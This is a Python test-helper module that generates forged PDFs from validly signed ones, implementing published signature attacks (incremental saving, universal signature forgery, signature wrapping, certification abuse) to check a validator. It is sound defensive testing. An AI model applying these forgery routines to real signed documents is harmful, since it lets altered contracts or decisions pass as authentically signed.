"""Signed files as attackers leave them: each function takes a soundly signed file and writes the manipulated one.

Families: Mladenov, Mainka et al., "1 Trillion Dollar Refund" (CCS 2019): USF, ISA, SWA; Mainka et al., "Shadow Attacks" (NDSS 2021);
Rohlmann et al., "Breaking the Specification: PDF Certification" (S&P 2021).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from pathlib import Path

import pikepdf

from tests.signature import files

Attack = Callable[[Path, Path], None]
EVIL = b"BT /F0 12 Tf 100 500 Td (Quyet dinh 999) Tj ET"


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(data), data)


def body(objects: Mapping[int, bytes], at: int) -> tuple[bytes, dict[int, int]]:
    """The objects' bytes and where each begins."""
    out, places = b"", {}
    for number, content in objects.items():
        places[number] = at + len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return out, places


def table(places: Mapping[int, int], trailer: bytes, at: int) -> bytes:
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % (number, place) for number, place in sorted(places.items()))
    return b"xref\n%strailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (rows, trailer, at)


def last_xref(data: bytes) -> int:
    return int(data[data.rindex(b"startxref") + 9 :].split()[0])


def trailer_of(path: Path, size: int = 0, root: int = 0) -> bytes:
    with pikepdf.open(path) as pdf:
        root = root or pdf.trailer.Root.objgen[0]
        size = max(size, int(pdf.trailer.Size))
    return b"<< /Size %d /Root %d 0 R /Prev %d >>" % (size, root, last_xref(path.read_bytes()))


def update(path: Path, out: Path, objects: Mapping[int, bytes], *, root: int = 0) -> None:
    """A proper incremental update."""
    data = path.read_bytes()
    added, places = body(objects, len(data))
    trailer = trailer_of(path, max(objects) + 1, root)
    out.write_bytes(data + added + table(places, trailer, len(data) + len(added)))


def number(path: Path, what: str) -> int:
    return files.object_number(path, what)


def free_number(path: Path) -> int:
    with pikepdf.open(path) as pdf:
        return int(pdf.trailer.Size)


def signature_object(path: Path) -> tuple[int, bytes]:
    """The number and the bytes of the signature dictionary."""
    data = path.read_bytes()
    for match in re.finditer(rb"(\d+) 0 obj\s*(<<.*?>>)\s*endobj", data, re.DOTALL):
        if b"/ByteRange" in match[2]:
            return int(match[1]), match[2]
    raise AssertionError("no signature")


def rewritten(path: Path, what: str, change: Callable[[pikepdf.Object], None]) -> bytes:
    """One object's own bytes after a change."""
    with pikepdf.open(path) as pdf:
        found = pdf.get_object((number(path, what), 0))
        change(found)
        return found.unparse(resolved=True)


# --- incremental saving (ISA) -------------------------------------------------------------------------------------------------
def overlay(path: Path, out: Path) -> None:
    update(path, out, {number(path, "contents"): stream(EVIL)})


def more_content(path: Path, out: Path) -> None:
    new = free_number(path)

    def change(page: pikepdf.Object) -> None:
        page.Contents = pikepdf.Array([page.Contents])

    page = rewritten(path, "page", change).replace(b" ]", b" %d 0 R ]" % new, 1)
    update(path, out, {number(path, "page"): page, new: stream(EVIL)})


def body_only(path: Path, out: Path) -> None:
    data = path.read_bytes()
    added, _places = body({number(path, "contents"): stream(EVIL)}, len(data))
    out.write_bytes(data + added)


def body_and_trailer(path: Path, out: Path) -> None:
    data = path.read_bytes()
    added, _places = body({number(path, "contents"): stream(EVIL)}, len(data))
    out.write_bytes(data + added + b"trailer\n" + trailer_of(path) + b"\n%%EOF\n")


def body_with_old_end(path: Path, out: Path) -> None:
    """The appended body ends as the signed file did: a strict parser finds the old table and nothing new."""
    data = path.read_bytes()
    added, _places = body({number(path, "contents"): stream(EVIL)}, len(data))
    out.write_bytes(data + added + b"startxref\n%d\n%%%%EOF\n" % last_xref(data))


def body_before_update(path: Path, out: Path) -> None:
    """A hidden body, then a harmless update whose table does not mention it."""
    data = path.read_bytes()
    hidden, _none = body({number(path, "contents"): stream(EVIL)}, len(data))
    at = len(data) + len(hidden)
    empty, places = body({}, at)
    out.write_bytes(data + hidden + empty + b"xref\n0 0\ntrailer\n" + trailer_of(path) + b"\nstartxref\n%d\n%%%%EOF\n" % at)
    assert not places


def copied_signature(path: Path, out: Path) -> None:
    """The update carries a copy of the signature, so that it looks like a signed revision."""
    _number, copy = signature_object(path)
    update(path, out, {number(path, "contents"): stream(EVIL), free_number(path): copy})


def garbage(path: Path, out: Path) -> None:
    out.write_bytes(path.read_bytes() + b"Bai bo quyet dinh nay\n")


def doubled_table(path: Path, out: Path) -> None:
    """A table that names the same object twice, first the evil one, then the true one."""
    data = path.read_bytes()
    contents = number(path, "contents")
    added, places = body({contents: stream(EVIL)}, len(data))
    true = data.index(b"%d 0 obj" % contents)
    at = len(data) + len(added)
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % (contents, place) for place in (places[contents], true))
    out.write_bytes(data + added + b"xref\n%strailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (rows, trailer_of(path), at))


def new_page(path: Path, out: Path) -> None:
    new = free_number(path)
    with pikepdf.open(path) as pdf:
        pages, first = pdf.Root.Pages.objgen[0], pdf.pages[0].objgen[0]
    page = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (pages, new + 1)
    tree = b"<< /Type /Pages /Count 2 /Kids [%d 0 R %d 0 R] >>" % (first, new)
    update(path, out, {pages: tree, new: page, new + 1: stream(EVIL)})


def other_font(path: Path, out: Path) -> None:
    def change(page: pikepdf.Object) -> None:
        page.Resources.Font.F0.BaseFont = pikepdf.Name.Symbol

    update(path, out, {number(path, "page"): rewritten(path, "page", change)})


def other_catalog(path: Path, out: Path) -> None:
    """The trailer leads to another catalog, whose page tree is the attacker's; the form with the signature is kept."""
    new = free_number(path)
    with pikepdf.open(path) as pdf:
        form = pdf.Root.AcroForm.unparse()
    catalog = b"<< /Type /Catalog /Pages %d 0 R /AcroForm %s >>" % (new + 1, form)
    pages = b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (new + 2)
    page = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (new + 1)
    update(path, out, {new: catalog, new + 1: pages, new + 2: page}, root=new)


def rotated(path: Path, out: Path) -> None:
    def change(page: pikepdf.Object) -> None:
        page.Rotate = 180

    update(path, out, {number(path, "page"): rewritten(path, "page", change)})


def cropped(path: Path, out: Path) -> None:
    def change(page: pikepdf.Object) -> None:
        page.CropBox = pikepdf.Array([0, 0, 10, 10])

    update(path, out, {number(path, "page"): rewritten(path, "page", change)})


def javascript(path: Path, out: Path) -> None:
    def change(catalog: pikepdf.Object) -> None:
        catalog.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    update(path, out, {number(path, "catalog"): rewritten(path, "catalog", change)})


def layers(path: Path, out: Path) -> None:
    new = free_number(path)

    def change(catalog: pikepdf.Object) -> None:
        catalog.OCProperties = pikepdf.Dictionary(D=pikepdf.Dictionary())

    catalog = rewritten(path, "catalog", change)
    update(path, out, {number(path, "catalog"): catalog, new: b"<< /Type /OCG /Name (x) >>"})


def title(path: Path, out: Path) -> None:
    new = free_number(path)
    data = path.read_bytes()
    added, places = body({new: b"<< /Title (Quyet dinh 999) >>"}, len(data))
    trailer = trailer_of(path, new + 1).replace(b" >>", b" /Info %d 0 R >>" % new)
    out.write_bytes(data + added + table(places, trailer, len(data) + len(added)))


def xmp(path: Path, out: Path) -> None:
    new = free_number(path)
    packet = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><r:Description '
        b'xmlns:d="http://purl.org/dc/elements/1.1/"><d:title><r:Alt><r:li>Bai bo</r:li></r:Alt></d:title>'
        b"</r:Description></r:RDF></x:xmpmeta>"
    )

    catalog = rewritten(path, "catalog", lambda _catalog: None)[:-2] + b" /Metadata %d 0 R >>" % new
    metadata = stream(packet, b"/Type /Metadata /Subtype /XML")
    update(path, out, {number(path, "catalog"): catalog, new: metadata})


def removed_object(path: Path, out: Path) -> None:
    """The page's content is marked as free."""
    data = path.read_bytes()
    at = len(data)
    row = b"xref\n%d 1\n0000000000 00001 f \n" % number(path, "contents")
    out.write_bytes(data + row + b"trailer\n" + trailer_of(path) + b"\nstartxref\n%d\n%%%%EOF\n" % at)


def second_field_same_signature(path: Path, out: Path) -> None:
    """A new field that shows the old signature's value once more."""
    signature, _bytes = signature_object(path)
    new = free_number(path)
    field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Khac) /Rect [0 0 0 0] /F 132 /V %d 0 R /P %d 0 R >>"

    def change(catalog: pikepdf.Object) -> None:
        fields = pikepdf.Array(list(catalog.AcroForm.Fields))
        catalog.AcroForm = pikepdf.Dictionary(SigFlags=3, Fields=fields)

    catalog = rewritten(path, "catalog", change)
    place = catalog.index(b"R ]", catalog.index(b"/Fields"))
    catalog = catalog[:place] + b"R %d 0 R ]" % new + catalog[place + 3 :]
    update(path, out, {number(path, "catalog"): catalog, new: field % (signature, number(path, "page"))})


# --- universal signature forgery (USF) ----------------------------------------------------------------------------------------
def in_signature(change: Callable[[bytes], bytes]) -> Attack:
    """The signature dictionary replaced by an update together with the page's content."""

    def attack(path: Path, out: Path) -> None:
        signature, old = signature_object(path)
        changed = change(old)
        assert changed != old
        update(path, out, {number(path, "contents"): stream(EVIL), signature: changed})

    return attack


def sub(pattern: bytes, new: bytes) -> Callable[[bytes], bytes]:
    return lambda data: re.sub(pattern, lambda _match: new, data, count=1, flags=re.DOTALL)


RANGE, VALUE = rb"/ByteRange\s*\[[^\]]*\]", rb"/Contents\s*<[0-9A-Fa-f]*>"
USF: dict[str, Attack] = {
    "usf-no-range": in_signature(sub(RANGE, b"")),
    "usf-range-null": in_signature(sub(RANGE, b"/ByteRange null")),
    "usf-range-zero": in_signature(sub(RANGE, b"/ByteRange [0 0 0 0]")),
    "usf-range-empty": in_signature(sub(RANGE, b"/ByteRange []")),
    "usf-range-negative": in_signature(sub(RANGE, b"/ByteRange [0 -1 0 -1]")),
    "usf-range-text": in_signature(sub(RANGE, b"/ByteRange (abc)")),
    "usf-range-huge": in_signature(sub(RANGE, b"/ByteRange [0 99999999999999999999 1 1]")),
    "usf-no-value": in_signature(sub(VALUE, b"")),
    "usf-value-null": in_signature(sub(VALUE, b"/Contents null")),
    "usf-value-zero": in_signature(sub(VALUE, b"/Contents <00>")),
    "usf-value-empty": in_signature(sub(VALUE, b"/Contents <>")),
    "usf-value-number": in_signature(sub(VALUE, b"/Contents 7")),
    "usf-no-subfilter": in_signature(sub(rb"/SubFilter\s*/[A-Za-z.]+", b"")),
    "usf-other-subfilter": in_signature(sub(rb"/SubFilter\s*/[A-Za-z.]+", b"/SubFilter /adbe.x509.rsa_sha1")),
}


# --- signature wrapping (SWA) -------------------------------------------------------------------------------------------------
def wrapped(path: Path, out: Path) -> None:
    """The second signed part is moved down; evil objects and a second range lie in the freed zeros of the value's gap."""
    data = path.read_bytes()
    numbers = [int(n) for n in re.search(rb"/ByteRange\s*\[([^\]]*)\]", data)[1].split()]  # type: ignore[index]
    first, second = data[: numbers[1]], data[numbers[2] : numbers[2] + numbers[3]]
    value = data[numbers[1] : numbers[2]].rstrip(b"0>") + b"00>"
    evil, places = body({number(path, "contents"): stream(EVIL)}, 0)
    gap = value + b" /ByteRange [0 %d %010d %d] >>\nendobj\n"
    head = len(first) + len(gap % (numbers[1], 0, numbers[3]))
    xref = table({n: place + head for n, place in places.items()}, trailer_of(path), head + len(evil))
    start = head + len(evil) + len(xref)
    out.write_bytes(first + gap % (numbers[1], start, numbers[3]) + evil + xref + second)


def wrapped_in_place(path: Path, out: Path) -> None:
    """A second range in the freed zeros, nothing moved: one program takes the first, another the last."""
    data = path.read_bytes()
    numbers = [int(n) for n in re.search(rb"/ByteRange\s*\[([^\]]*)\]", data)[1].split()]  # type: ignore[index]
    value = data[numbers[1] : numbers[2]].rstrip(b"0>") + b"00>"
    more = b" /ByteRange [0 %d %d %d]" % tuple(numbers[1:])
    room = numbers[2] - numbers[1] - len(value) - len(more)
    out.write_bytes(data[: numbers[1]] + value + more + b" " * room + data[numbers[2] :])


def other_chain(path: Path, out: Path) -> None:
    """A whole new table that does not lead to the signed one: the signed revision is no link of the chain any more."""
    data = path.read_bytes()
    contents = number(path, "contents")
    places = {int(m[1]): m.start() for m in re.finditer(rb"(?<![0-9])(\d+) 0 obj", data)}
    added, new = body({contents: stream(EVIL)}, len(data))
    trailer = re.sub(rb"/Prev \d+", b"", trailer_of(path))
    at = len(data) + len(added)
    head = b"xref\n0 1\n0000000000 65535 f \n" + table(places | new, trailer, at)[len(b"xref\n") :]
    out.write_bytes(data + added + head)


def inherited(path: Path, out: Path) -> None:
    """The page tree's node brings another box for all pages."""
    with pikepdf.open(path) as pdf:
        pages = pdf.Root.Pages.objgen[0]
        pdf.Root.Pages.CropBox = pikepdf.Array([0, 0, 10, 10])
        node = pdf.Root.Pages.unparse(resolved=True)
    update(path, out, {pages: node})


def own_certification(path: Path, out: Path) -> None:
    """The attacker gives leave to change the document after the fact."""
    signature, old = signature_object(path)
    new = free_number(path)
    reference = b"<< /Type /SigRef /TransformMethod /DocMDP /TransformParams << /Type /TransformParams /P 3 /V /1.2 >> >>"
    catalog = rewritten(path, "catalog", lambda _catalog: None)[:-2] + b" /Perms << /DocMDP %d 0 R >> >>" % new
    copy = old[:-2] + b" /Reference [%s] >>" % reference
    update(path, out, {number(path, "contents"): stream(EVIL), number(path, "catalog"): catalog, new: copy})
    assert signature != new


def no_catalog(path: Path, out: Path) -> None:
    """The trailer does not say where the catalog is; a program that repairs takes the one that it finds last."""
    data = path.read_bytes()
    new = free_number(path)
    added, places = body({new: b"<< /Type /Catalog >>"}, len(data))
    trailer = re.sub(rb"/Root \d+ 0 R", b"", trailer_of(path, new + 1))
    out.write_bytes(data + added + table(places, trailer, len(data) + len(added)))


def in_range(change: Callable[[list[int]], list[int]]) -> Attack:
    """Other numbers in the signed range, in place."""

    def attack(path: Path, out: Path) -> None:
        data = path.read_bytes()
        match = re.search(rb"/ByteRange\s*\[([^\]]*)\]", data)
        assert match is not None
        numbers = b" ".join(b"%d" % n for n in change([int(n) for n in match[1].split()]))
        room = match.end() - match.start() - len(b"/ByteRange []")
        out.write_bytes(
            data[: match.start()] + b"/ByteRange [%s]" % numbers.ljust(room)[: max(room, len(numbers))] + data[match.end() :]
        )

    return attack


RANGES: dict[str, Attack] = {
    "range-of-six": in_range(lambda n: [n[0], 9, 9, n[1] - 9, n[2], n[3]]),
    "range-of-two": in_range(lambda n: n[:2]),
    "range-overlaps": in_range(lambda n: [0, n[1], n[1] - 5, n[3]]),
    "range-backwards": in_range(lambda n: [n[2], n[3], 0, n[1]]),
    "range-negative": in_range(lambda n: [0, -n[1], n[2], n[3]]),
    "range-beyond-the-end": in_range(lambda n: [0, n[1], n[2], n[3] + 1000]),
    "range-wide-gap": in_range(lambda n: [0, n[1] - 30, n[2], n[3]]),
    "range-late-start": in_range(lambda n: [1, n[1] - 1, n[2], n[3]]),
}

ATTACKS: dict[str, Attack] = {
    "overlay": overlay,
    "more-content": more_content,
    "body-only": body_only,
    "body-and-trailer": body_and_trailer,
    "body-with-old-end": body_with_old_end,
    "body-before-update": body_before_update,
    "copied-signature": copied_signature,
    "garbage": garbage,
    "doubled-table": doubled_table,
    "new-page": new_page,
    "other-font": other_font,
    "other-catalog": other_catalog,
    "rotated": rotated,
    "cropped": cropped,
    "javascript": javascript,
    "layers": layers,
    "title": title,
    "xmp": xmp,
    "removed-object": removed_object,
    "same-signature-twice": second_field_same_signature,
    "wrapped": wrapped,
    "wrapped-in-place": wrapped_in_place,
    "other-chain": other_chain,
    "inherited": inherited,
    "own-certification": own_certification,
    "no-catalog": no_catalog,
    **RANGES,
    **USF,
}
